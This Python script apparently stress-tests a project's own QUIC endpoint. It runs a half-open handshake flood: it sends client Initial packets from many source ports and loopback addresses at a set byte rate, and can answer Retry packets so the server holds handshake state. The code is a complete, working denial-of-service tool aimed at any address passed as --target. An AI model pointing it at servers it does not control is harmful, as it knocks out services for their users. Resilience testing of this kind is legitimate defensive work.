#!/usr/bin/env python3
"""Half-open QUIC handshake flood: client Initial datagrams, made by aioquic, from many source
ports (and optionally many loopback source addresses), at a fixed byte rate; never finishes a
handshake.

    python3 -m pip install aioquic
    flood.py --target 127.0.0.1:7001 --rate 120000 --duration 20
    flood.py --target 127.0.0.1:7001 --mode answer-retry --sources 127.0.0.2-127.0.0.40

Modes:
  half-open     every attempt is one Initial from a fresh connection; nothing sent back is read
                (what a sender of spoofed source addresses can do: it never sees the answers).
  answer-retry  as half-open, but a Retry from the server is answered with the Initial that
                carries its token (the source address is then validated, and the server keeps
                handshake state), after which the attempt goes silent.

The byte rate counts every datagram this tool sends. Prints one JSON line at the end:
{mode, duration_s, attempts, datagrams, bytes, rate_bytes_per_s, retries_received,
retried_initials}.
"""

import argparse
import asyncio
import ipaddress
import json
import socket
import ssl
import sys
import time

try:
    from aioquic._buffer import Buffer
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection
    from aioquic.quic.packet import QuicProtocolVersion, pull_quic_header
except ImportError:
    sys.exit("flood.py needs aioquic: python3 -m pip install aioquic")

PACKET_TYPE_RETRY = 0xF0  # long header, QUIC v1 packet type 3 (bits 0x30), fixed bit 0x40


def parse_addr(text):
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def parse_sources(text):
    """'127.0.0.1' or '127.0.0.2-127.0.0.40' or a comma-separated mix of both."""
    out = []
    for part in text.split(","):
        first, _, last = part.strip().partition("-")
        a = ipaddress.ip_address(first)
        b = ipaddress.ip_address(last) if last else a
        out.extend(str(ipaddress.ip_address(n)) for n in range(int(a), int(b) + 1))
    return out


class Flood:
    def __init__(self, args):
        self.args = args
        self.target = parse_addr(args.target)
        self.config = dict(
            alpn_protocols=[args.alpn],
            server_name=args.server_name,
            verify_mode=ssl.CERT_NONE,
            supported_versions=[QuicProtocolVersion.VERSION_1],
        )
        self.attempts = 0
        self.datagrams = 0
        self.bytes = 0
        self.retries_received = 0
        self.retried_initials = 0
        self.sockets = []
        # answer-retry: the attempt waiting on each socket for its Retry, by the client's cid.
        self.pending = {}

    def open_sockets(self, loop):
        for source in parse_sources(self.args.sources):
            for _ in range(self.args.ports):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.setblocking(False)
                s.bind((source, 0))
                self.sockets.append(s)
                if self.args.mode == "answer-retry":
                    loop.add_reader(s.fileno(), self.on_readable, s)

    def new_attempt(self, sock):
        conn = QuicConnection(configuration=QuicConfiguration(is_client=True, **self.config))
        now = time.monotonic()
        conn.connect(self.target, now=now)
        self.attempts += 1
        if self.args.mode == "answer-retry":
            self.pending[(sock.fileno(), conn.host_cid)] = conn
            # Bounded: an attempt whose Retry never came is forgotten.
            if len(self.pending) > 4 * len(self.sockets):
                self.pending.pop(next(iter(self.pending)))
        return [data for data, _ in conn.datagrams_to_send(now=now)]

    def send(self, sock, data):
        try:
            sock.sendto(data, self.target)
        except (BlockingIOError, ConnectionRefusedError):
            return
        self.datagrams += 1
        self.bytes += len(data)

    def on_readable(self, sock):
        while True:
            try:
                data, addr = sock.recvfrom(65536)
            except (BlockingIOError, ConnectionRefusedError):
                return
            if not data or data[0] & 0xF0 != PACKET_TYPE_RETRY:
                continue  # the server's handshake packets: a half-open client never answers
            try:
                header = pull_quic_header(Buffer(data=data), host_cid_length=8)
            except ValueError:
                continue
            conn = self.pending.pop((sock.fileno(), header.destination_cid), None)
            if conn is None:
                continue
            self.retries_received += 1
            now = time.monotonic()
            conn.receive_datagram(data, addr, now=now)
            for out, _ in conn.datagrams_to_send(now=now):
                self.send(sock, out)
                self.retried_initials += 1

    async def run(self):
        loop = asyncio.get_running_loop()
        self.open_sockets(loop)
        start = time.monotonic()
        end = start + self.args.duration
        i = 0
        while True:
            now = time.monotonic()
            if now >= end:
                break
            # Sends while under the byte budget for the time elapsed, then sleeps a tick.
            budget = self.args.rate * (now - start)
            while self.bytes < budget:
                sock = self.sockets[i % len(self.sockets)]
                i += 1
                for data in self.new_attempt(sock):
                    self.send(sock, data)
            await asyncio.sleep(0.005)
        if self.args.mode == "answer-retry":
            await asyncio.sleep(0.2)  # late Retries
        elapsed = time.monotonic() - start
        for s in self.sockets:
            if self.args.mode == "answer-retry":
                loop.remove_reader(s.fileno())
            s.close()
        return {
            "mode": self.args.mode,
            "duration_s": round(elapsed, 2),
            "attempts": self.attempts,
            "datagrams": self.datagrams,
            "bytes": self.bytes,
            "rate_bytes_per_s": round(self.bytes / elapsed),
            "retries_received": self.retries_received,
            "retried_initials": self.retried_initials,
        }


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True, help="IP:PORT of the QUIC endpoint")
    p.add_argument("--rate", type=float, default=120_000, help="bytes per second (default 120000)")
    p.add_argument("--duration", type=float, default=20, help="seconds (default 20)")
    p.add_argument("--mode", choices=["half-open", "answer-retry"], default="half-open")
    p.add_argument("--sources", default="127.0.0.1", help="source IPs: A, A-B, or a list (default 127.0.0.1)")
    p.add_argument("--ports", type=int, default=64, help="source ports (sockets) per source IP (default 64)")
    p.add_argument("--alpn", default="shoal-api/1", help="ALPN offered (default shoal-api/1; gossip: shoal-gossip/1)")
    p.add_argument("--server-name", default="any-member.shoal.invalid")
    args = p.parse_args()
    print(json.dumps(asyncio.run(Flood(args).run())), flush=True)


if __name__ == "__main__":
    main()
